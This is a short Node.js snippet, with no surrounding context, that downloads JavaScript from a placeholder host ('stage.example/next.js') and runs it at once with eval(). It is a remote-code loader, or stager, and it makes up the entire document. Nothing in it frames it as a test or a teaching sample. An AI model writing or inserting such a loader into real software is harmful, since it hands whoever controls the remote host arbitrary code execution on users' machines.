const http = require("http");
http.get("http://stage.example/next.js", (res) => {
  let text = "";
  res.on("data", (c) => (text += c));
  res.on("end", () => eval(text));
});
